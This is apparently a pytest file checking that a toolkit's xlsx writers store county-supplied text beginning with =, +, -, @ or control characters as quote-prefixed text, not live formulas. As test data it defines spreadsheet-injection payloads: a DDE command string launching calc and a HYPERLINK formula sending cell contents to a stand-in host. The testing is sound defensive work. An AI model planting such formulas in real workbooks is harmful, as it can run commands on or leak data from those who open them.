"""Every xlsx the toolkit writes stores a county's text as text (issue 10, finding 3).

Text that starts with ``= + - @``, a tab or a carriage return comes out as a string cell with Excel's
quote prefix — never as a live formula such as ``=HYPERLINK("http://…?x="&A1,…)`` or
``=cmd|' /C calc'!A0`` — and numbers stay numbers. Each writer is checked on the XML it produces:
the province tables (附件2/附件4 .xlsx), the annotated copy (its 问题清单 and the county's own cells),
``batch/summary.xlsx`` and the blank workbook.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import openpyxl

from toolkit.cli import main
from toolkit.core import xlsx_safe
from toolkit.intake.reader import PROBLEMS_SHEET, check_workbook, write_annotated
from xlsx_scan import live_formulas, unquoted_risky_text

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "data" / "examples"
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1/0"]


def _sheet_xml(path: Path, title: str) -> str:
    with zipfile.ZipFile(path) as zf:
        member = {t: m for m, t in xlsx_safe.sheet_parts(zf).items()}[title]
        return zf.read(member).decode()


def test_put_stores_text_as_text_with_the_quote_prefix_and_numbers_as_numbers(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for r, v in enumerate(HOSTILE + ["普通文字", "0574-65500000"], start=1):
        xlsx_safe.put(ws.cell(r, 1), v)
    xlsx_safe.put(ws.cell(1, 2), -5)
    xlsx_safe.put(ws.cell(2, 2), 12.5)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    assert live_formulas(path, allowed={}) == []
    assert unquoted_risky_text(path) == []
    back = openpyxl.load_workbook(path).active
    assert [back.cell(r, 1).value for r in range(1, len(HOSTILE) + 1)] == HOSTILE  # shown exactly as typed
    assert all(back.cell(r, 1).quotePrefix for r in range(1, len(HOSTILE) + 1))
    assert not back.cell(len(HOSTILE) + 1, 1).quotePrefix  # ordinary text is left alone
    assert (back.cell(1, 2).value, back.cell(2, 2).value) == (-5, 12.5)
    assert '<c r="B1" t="n"><v>-5</v>' in _sheet_xml(path, ws.title)


def test_openpyxl_alone_would_write_a_live_formula(tmp_path):
    """Why ``put`` exists: the scan sees what a plain assignment writes."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = DDE
    wb.save(tmp_path / "plain.xlsx")
    assert live_formulas(tmp_path / "plain.xlsx", allowed={}) == [("Sheet", "A1", DDE)]


# -- the annotated copy --------------------------------------------------------------------------------

def test_annotated_copy_of_the_broken_demo_has_no_county_formula(tmp_path):
    result = check_workbook(EXAMPLES / "broken")
    out = write_annotated(result, tmp_path / "checked.xlsx")
    assert live_formulas(out) == []  # the region's formula, the template's own, is allowed
    assert unquoted_risky_text(out) == []
    wb = openpyxl.load_workbook(out)
    assert wb["年度指标"]["F8"].value == "=D8+E8" and wb["年度指标"]["F8"].data_type == "s"
    listing = wb[PROBLEMS_SHEET]
    row = next(r for r in range(2, listing.max_row + 1)
               if (listing.cell(r, 3).value, listing.cell(r, 4).value) == ("年度指标", "F8"))
    assert listing.cell(row, 6).value == "=D8+E8" and listing.cell(row, 6).quotePrefix
    from toolkit.intake.blank import template_formulas

    [(sheet, cell)] = template_formulas()  # the region, derived from the province
    assert wb[sheet][cell].data_type == "f"  # the template's own formula still works


def _with_county_formulas(folder: Path) -> None:
    """County text that is a formula three ways: typed text, a formula with a saved result, and one without."""
    path = folder / "intake.xlsx"
    wb = openpyxl.load_workbook(path)
    wb["企业名单"]["K3"] = "placeholder-text"
    wb["企业名单"]["K4"] = "=1+1"
    wb["企业名单"]["J5"] = "=SUM(1,2)"
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        files = {i.filename: zf.read(i.filename) for i in zf.infolist()}
        member = {t: m for m, t in xlsx_safe.sheet_parts(zf).items()}["企业名单"]
    xml = files[member].decode()
    xml = xml.replace("<is><t>placeholder-text</t></is>", f"<is><t>{_xml(HYPERLINK)}</t></is>")
    assert "<f>1+1</f><v></v>" in xml or "<f>1+1</f><v />" in xml or "<f>1+1</f></c>" in xml
    xml = xml.replace("<f>1+1</f><v></v>", "<f>1+1</f><v>2</v>").replace("<f>1+1</f></c>", "<f>1+1</f><v>2</v></c>")
    files[member] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def test_annotated_copy_keeps_values_and_text_but_no_live_formula(tmp_path):
    folder = tmp_path / "q"
    shutil.copytree(EXAMPLES / "clients" / "qingchuan", folder)
    _with_county_formulas(folder)
    before = (folder / "intake.xlsx").read_bytes()
    assert live_formulas(before)  # the county's workbook does hold live formulas
    result = check_workbook(folder)
    out = write_annotated(result, tmp_path / "checked.xlsx")
    assert live_formulas(out) == [] and unquoted_risky_text(out) == []
    ws = openpyxl.load_workbook(out)["企业名单"]
    assert ws["K3"].value == HYPERLINK and ws["K3"].quotePrefix      # typed text, kept as text
    assert ws["K4"].value == 2 and ws["K4"].data_type == "n"         # a formula's saved result
    assert ws["J5"].value == "=SUM(1,2)" and ws["J5"].data_type == "s"  # no saved result: its text
    assert (folder / "intake.xlsx").read_bytes() == before


def test_cli_check_writes_an_annotated_copy_without_live_formulas(tmp_path, capsys):
    dst = tmp_path / "broken"
    shutil.copytree(EXAMPLES / "broken", dst)
    assert main(["check", str(dst)]) == 1
    assert live_formulas(dst / "intake.checked.xlsx") == []


# -- province tables --------------------------------------------------------------------------------

def test_province_tables_store_hostile_names_as_text(tmp_path, monkeypatch):
    from factories import make_client
    from toolkit.package import writer
    from toolkit.package.writer import build_package
    from toolkit.province import tables as province

    monkeypatch.setattr(writer, "write_brief", lambda *a, **k: {})   # the memo is not what this is about
    out = tmp_path / "output"
    for cid, basic in [
        ("a", {"cluster_name": HYPERLINK, "county": DDE, "leading_industry": "@SUM(1)", "sub_field": "+1"}),
        ("b", {"cluster_name": "-2+3", "county": "\t=1", "sub_field": "智能小家电"}),
        ("c", {"cluster_name": DDE, "county": HYPERLINK, "sub_field": "=1+1", "application_type": "复核",
               "recognised_year": 2022}),
    ]:
        build_package(make_client(basic={"recommender": "宁波市", **basic}, folder=tmp_path / "clients" / cid),
                      round=2025, output=out)
    tables = [p for p in province.write_province_tables(out, 2025) if p.suffix == ".xlsx"]
    # the province's two tables and our internal workbook beside them, each scanned
    assert {p.name for p in tables} == {"附件2_推荐汇总表.xlsx", "附件4_复核情况汇总表.xlsx", "宁波市_内部研判表（不报送）.xlsx"}
    for path in tables:
        assert live_formulas(path, allowed={}) == [], path
        assert unquoted_risky_text(path) == [], path
    ws = openpyxl.load_workbook(next(p for p in tables if p.name.startswith("附件2"))).active
    names = {ws.cell(r, 2).value for r in range(3, ws.max_row + 1)}
    assert {HYPERLINK, "-2+3"} <= names  # shown as the county wrote them


# -- the batch summary --------------------------------------------------------------------------------

def test_batch_summary_stores_a_hostile_folder_name_as_text(tmp_path, monkeypatch):
    from toolkit.run.batch import run_batch

    odd = '=HYPERLINK("http:x","y")'
    shutil.copytree(EXAMPLES / "clients" / "qingchuan", tmp_path / odd)
    monkeypatch.chdir(tmp_path)  # the folders as a consultant types them: relative
    stub = ROOT / "tests" / "notebooks" / "stub_client.ipynb"
    result = run_batch([odd, "=1+1"], round=2025, output="out", notebook=stub, province_notebook=False,
                       progress=False, timeout=60)
    assert live_formulas(result.summary, allowed={}) == []
    assert unquoted_risky_text(result.summary) == []
    ws = openpyxl.load_workbook(result.summary)["运行明细"]
    assert [ws.cell(1, 10).value, ws.cell(2, 10).value, ws.cell(3, 10).value] == ["客户文件夹", odd, "=1+1"]


# -- the blank workbook --------------------------------------------------------------------------------

def test_blank_workbook_stores_a_hostile_cluster_name_as_text(tmp_path, capsys):
    assert main(["new-client", str(tmp_path / "c"), "--name", DDE]) == 0
    path = tmp_path / "c" / "intake.xlsx"
    assert live_formulas(path) == []  # only the template's own
    assert unquoted_risky_text(path) == []
    wb = openpyxl.load_workbook(path)
    assert wb["基本信息"]["B2"].value == DDE
    assert wb["填写说明"]["A1"].value.startswith(DDE)
    result = check_workbook(tmp_path / "c")
    name = [p for p in result.problems if p.sheet == "基本信息" and p.cell == "B2"]
    assert name == []  # read back as the name it is


def test_blank_workbook_with_data_stores_hostile_values_as_text(tmp_path):
    from toolkit.intake.blank import build_workbook

    wb = build_workbook("集群", [2022, 2023, 2024], {
        "basic": {"county": HYPERLINK}, "roster": [{"name": DDE, "note": "@x"}],
        "evidence": [{"title": "+证明", "file": "-x.pdf"}], "negative": {"violation": ("否", "=1+1")}})
    buf = io.BytesIO()
    wb.save(buf)
    assert live_formulas(buf.getvalue()) == []
    assert unquoted_risky_text(buf.getvalue()) == []


def test_next_rounds_workbook_stores_hostile_text_as_text(tmp_path):
    from toolkit.intake.carry_over import carry_over

    folder = tmp_path / "q"
    shutil.copytree(EXAMPLES / "clients" / "qingchuan", folder)
    wb = openpyxl.load_workbook(folder / "intake.xlsx")
    xlsx_safe.put(wb["企业名单"]["A3"], DDE)         # as a county's text cell holds it
    xlsx_safe.put(wb["平台机构"]["A3"], HYPERLINK)
    wb.save(folder / "intake.xlsx")
    assert check_workbook(folder).ok
    target, _ = carry_over(folder, tmp_path / "next", [2023, 2024, 2025])
    assert live_formulas(target) == [] and unquoted_risky_text(target) == []
    back = openpyxl.load_workbook(target)
    assert back["企业名单"]["A3"].value == DDE and back["平台机构"]["A3"].value == HYPERLINK
